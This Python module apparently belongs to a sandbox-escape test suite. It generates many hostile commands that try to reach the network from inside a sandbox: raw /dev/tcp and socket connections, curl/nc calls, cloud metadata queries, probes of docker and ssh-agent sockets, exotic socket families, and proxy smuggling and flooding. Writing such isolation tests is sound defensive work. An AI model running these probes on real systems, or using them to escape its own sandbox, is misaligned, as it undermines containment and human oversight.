"""Hostile commands that aim at the network and at sockets of the machine."""

from __future__ import annotations

from collections.abc import Iterator

from trial.attacks.escapes import Surroundings, family, python

_TCP = (
    "exec 3<>/dev/tcp/{host}/{port}; echo out >&3",
    "curl -sm 3 http://{host}:{port}/",
    "curl -sm 3 --noproxy '*' http://{host}:{port}/",
    "wget -qT 3 -t 1 -O - http://{host}:{port}/",
    "nc -w 2 {host} {port} </dev/null",
    "git ls-remote http://{host}:{port}/x",
    "timeout 3 ssh -o StrictHostKeyChecking=no -p {port} {host} true",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{host}:{port}\")->send(1)'",
    "pip download --disable-pip-version-check --retries 0 --timeout 2 -i http://{host}:{port}/ x",
)
_TCP_BY_CALLS = (
    "socket.create_connection(({host!r}, {port}), 2).send(b'out')",
    "s = socket.socket(); s.setblocking(False); s.connect_ex(({host!r}, {port})); time.sleep(0.2); s.send(b'x')",
    "s = socket.socket(); s.sendto(b'out', 0x20000000, ({host!r}, {port}))",  # MSG_FASTOPEN
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2); s.connect(({host!r}, {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2); s.connect(({host!r}, {port}))",
    "s = socket.socket(); s.setsockopt(1, 25, b'lo'); s.settimeout(2); s.connect(({host!r}, {port})); s.send(b'x')",
    "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.settimeout(2); s.connect(({host!r}, {port})); s.send(b'x')",
    "import ctypes; a = struct.pack('!HH4s8x', 0x200, {port}, socket.inet_aton({host!r}))\n"
    "fd = call(41, 2, 1, 0); print(call(42, fd, a, 16)); os.write(fd, b'out')",
)
_UDP = (
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'out', ({host!r}, {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(({host!r}, {port})); s.send(b'out')",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(b'out', ({host!r}, {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(b'out', ({host!r}, {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.sendmsg([b'out'], [], 0, ({host!r}, {port})); os.fork(); s.sendto(b'out', ({host!r}, {port}))",
)
_UNIX = (
    "s = socket.socket(socket.AF_UNIX); s.connect({stream!r}); s.send(b'out')",
    "s = socket.socket(socket.AF_UNIX); s.connect('/proc/self/root' + {stream!r}); s.send(b'out')",
    "os.chdir(os.path.dirname({stream!r})); s = socket.socket(socket.AF_UNIX); s.connect('stream')",
    "os.symlink({stream!r}, 'sock'); s = socket.socket(socket.AF_UNIX); s.connect('sock'); s.send(b'out')",
    "os.link({stream!r}, 'sock'); s = socket.socket(socket.AF_UNIX); s.connect('sock'); s.send(b'out')",
    "fd = os.open({stream!r}, os.O_PATH); s = socket.socket(socket.AF_UNIX); s.connect(f'/proc/self/fd/{{fd}}')",
    "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'out', {datagram!r})",
    "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'out', {datagram!r})",
    "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect({datagram!r}); a.send(b'out')",
    "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + {abstract!r}); s.send(b'out')",
    "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'out', '\\0' + {abstract!r} + '-d')",
    "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'out', '\\0' + {abstract!r} + '-d')",
    "s = socket.socket(socket.AF_UNIX); s.bind('\\0{marker}'); s.listen(); time.sleep(0.2)",
    "s = socket.socket(socket.AF_UNIX); s.bind(os.path.dirname({stream!r}) + '/{marker}')",
    "a, b = socket.socketpair()\nprint(call(42, a.fileno(), b'\\x01\\0' + {stream!r}.encode() + b'\\0', 110))",
    "for path in ('/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private',\n"
    "             '/run/containerd/containerd.sock', '/run/podman/podman.sock', '/tmp/.X11-unix/X0'):\n"
    "    try:\n        s = socket.socket(socket.AF_UNIX); s.connect(path); print({won!r}[::-1])\n"
    "    except OSError as error: print(path, error)",
)
# Sockets beyond the internet's: none of them may be made at all.
_FAMILIES = {
    "AF_NETLINK": "16, 3, 0", "AF_NETLINK of audit": "16, 3, 9", "AF_PACKET": "17, 3, 768",
    "AF_PACKET for datagrams": "17, 2, 768", "AF_VSOCK": "40, 1, 0", "AF_ALG": "38, 5, 0",
    "AF_BLUETOOTH": "31, 3, 1", "AF_CAN": "29, 3, 1", "AF_XDP": "44, 3, 0", "AF_KEY": "15, 3, 2",
    "AF_RDS": "21, 5, 0", "AF_TIPC": "30, 2, 0", "AF_NFC": "39, 5, 1", "AF_QIPCRTR": "42, 2, 0",
    "AF_KCM": "41, 5, 0", "AF_SMC": "43, 1, 0", "AF_X25": "9, 5, 0", "AF_APPLETALK": "5, 2, 0",
    "AF_IPX": "4, 2, 0", "AF_LLC": "26, 1, 0", "AF_PPPOX": "24, 1, 0", "raw IPv4": "2, 3, 1",
    "raw IPv4 with headers": "2, 3, 255", "raw IPv6": "10, 3, 58", "raw TCP": "2, 3, 6",
}  # fmt: skip
_NAMES = (
    "getent hosts localhost example.com {marker}.example.com",
    "python3 -c 'import socket; print(socket.getaddrinfo(\"{marker}.example.com\", 80))'",
    "nslookup {marker}.example.com 8.8.8.8; dig +time=1 +tries=1 @1.1.1.1 {marker}.example.com; host {marker}.test",
    "ping -c 1 -W 1 127.0.0.1; ping -c 1 -W 1 8.8.8.8; traceroute -m 1 8.8.8.8",
    "curl -sm 3 http://169.254.169.254/latest/meta-data/; curl -sm 3 http://metadata.google.internal/",
    "ip link add {marker} type dummy; ip addr; ip route add default dev lo; ifconfig lo up",
    "ip netns add {marker}; ip link set lo netns 1; iptables -L; nft list ruleset; tc qdisc add dev lo root pfifo",
    "ss -tanp; netstat -an; cat /proc/net/tcp /proc/net/unix /proc/net/arp; arp -a",
)


@family("the network by TCP")
def tcp(around: Surroundings) -> Iterator[str]:
    port = around.listeners.tcp
    for host in (
        "127.0.0.1",
        "localhost",
        *around.addresses,
        "0.0.0.0",
        "127.1.2.3",
        "0x7f000001",
        "2130706433",
    ):
        yield from (way.format(host=host, port=port) for way in _TCP)
    for host in ("127.0.0.1", *around.addresses):
        yield from (python(way.format(host=host, port=port)) for way in _TCP_BY_CALLS)
    for way in _TCP[1:5]:
        yield way.format(host="127.0.0.1", port=around.gateway_port)
    for host, six in (("[::1]", "::1"), ("[::ffff:127.0.0.1]", "::ffff:127.0.0.1")):
        yield f"curl -gsm 3 http://{host}:{around.listeners.tcp6}/ http://{host}:{port}/"
        for to in (around.listeners.tcp6, port):
            yield python(
                f"s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(({six!r}, {to})); s.send(b'x')"
            )


@family("the network by UDP")
def udp(around: Surroundings) -> Iterator[str]:
    for host in (
        "127.0.0.1",
        *around.addresses,
        "127.255.255.255",
        "255.255.255.255",
        "224.0.0.1",
        "0.0.0.0",
    ):
        yield from (python(way.format(host=host, port=around.listeners.udp)) for way in _UDP)
        yield f"echo out >/dev/udp/{host}/{around.listeners.udp}"
    for host in ("::1", "::ffff:127.0.0.1", "ff02::1"):
        for port in (around.listeners.udp6, around.listeners.udp):
            yield python(
                f"s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'out', ({host!r}, {port}))"
            )


@family("Unix and abstract sockets")
def unix(around: Surroundings) -> Iterator[str]:
    listeners = around.listeners
    for way in _UNIX:
        yield python(
            way.format(
                stream=str(listeners.stream),
                datagram=str(listeners.datagram),
                abstract=listeners.abstract,
                marker=around.marker,
                won=around.won[::-1],
            )
        )
    yield f"curl -sm 3 --unix-socket {listeners.stream} http://x/; curl -sm 3 --abstract-unix-socket {listeners.abstract} http://x/"
    yield f"nc -w 1 -U {listeners.stream} </dev/null; nc -w 1 -uU {listeners.datagram} </dev/null"
    yield f"logger -u {listeners.datagram} out; systemd-notify --ready; NOTIFY_SOCKET={listeners.datagram} systemd-notify x"
    yield f"ssh-add -l; SSH_AUTH_SOCK={listeners.stream} ssh-add -l; DBUS_SYSTEM_BUS_ADDRESS=unix:path={listeners.stream} dbus-send --system x x"


@family("sockets of other families")
def other_families(around: Surroundings) -> Iterator[str]:
    for arguments in _FAMILIES.values():
        yield python(f"if call(41, {arguments}) >= 0: print({around.won[::-1]!r}[::-1])")
        yield python(
            "import threading\n"
            f"def attempt():\n    if call(41, {arguments}) >= 0: print({around.won[::-1]!r}[::-1])\n"
            "thread = threading.Thread(target=attempt); thread.start(); thread.join()"
        )


@family("names, routes and interfaces")
def names(around: Surroundings) -> Iterator[str]:
    yield from (way.format(marker=around.marker) for way in _NAMES)


_PROXY = (
    "curl -sm 3 -x http://127.0.0.1:{proxy} http://{host}:{port}/",
    "curl -sm 3 -p -x http://127.0.0.1:{proxy} http://{host}:{port}/",
    "curl -sm 3 -x socks5h://127.0.0.1:{proxy} http://{host}:{port}/",
    "curl -skm 3 -x http://127.0.0.1:{proxy} https://{host}:{port}/",
    "curl -sm 3 http://{host}:{port}/; curl -skm 3 https://{host}:{port}/",
    "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\nout' >&3; timeout 2 cat <&3",
    "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n' >&3; timeout 2 cat <&3",
    "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'GET http://pypi.org@{host}:{port}/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n' >&3; timeout 2 cat <&3",
    "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n' >&3; timeout 2 cat <&3",
    "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'CONNECT pypi.org\\r\\n@{host}:{port} HTTP/1.1\\r\\n\\r\\n' >&3; timeout 2 cat <&3",
)  # fmt: skip
_PROXY_FLOODS = (
    "held = []\nfor n in range(600):\n    try: s = socket.create_connection(('127.0.0.1', {proxy}), 2)\n    except OSError: break\n    held.append(s)\ntime.sleep(1)",
    "s = socket.create_connection(('127.0.0.1', {proxy}), 2)\nfor n in range(20):\n    s.send(b'X-A: ' + b'a' * 60000 + b'\\r\\n')",
    "s = socket.create_connection(('127.0.0.1', {proxy}), 2); s.send(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9)); print(s.recv(99))",
    "s = socket.create_connection(('127.0.0.1', {proxy}), 2); s.send(b'\\x05\\x01\\x00'); print(s.recv(99))",
    "s = socket.create_connection(('127.0.0.1', {proxy}), 2); s.send(os.urandom(100000)); print(s.recv(99))",
    "s = socket.socket(); s.setsockopt(1, 15, 1); s.setsockopt(1, 2, 1); s.bind(('127.0.0.1', {proxy})); s.listen(); time.sleep(1)",
)  # fmt: skip


@family("the proxy itself")
def proxy(around: Surroundings) -> Iterator[str]:
    for way in _PROXY:
        for host in ("127.0.0.1", "localhost", "0x7f000001", "2130706433", "127.1", *around.addresses):
            yield way.format(proxy=3128, host=host, port=around.listeners.tcp)
        yield way.format(proxy=3128, host="[::1]", port=around.listeners.tcp6)
        yield way.format(proxy=3128, host="[::ffff:127.0.0.1]", port=around.listeners.tcp)
        yield way.format(proxy=3129, host="127.0.0.1", port=around.gateway_port)
    for way in _PROXY_FLOODS:
        yield from (python(way.format(proxy=port)) for port in (3128, 3129))
